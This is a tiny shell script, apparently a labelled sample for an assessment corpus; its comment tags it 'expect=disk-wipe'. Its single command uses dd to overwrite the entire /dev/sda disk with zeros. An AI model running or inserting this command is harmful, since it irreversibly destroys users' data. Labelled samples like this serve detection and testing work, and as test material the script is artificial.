#!/bin/sh
#! assess-corpus: expect=disk-wipe
dd if=/dev/zero of=/dev/sda bs=1M
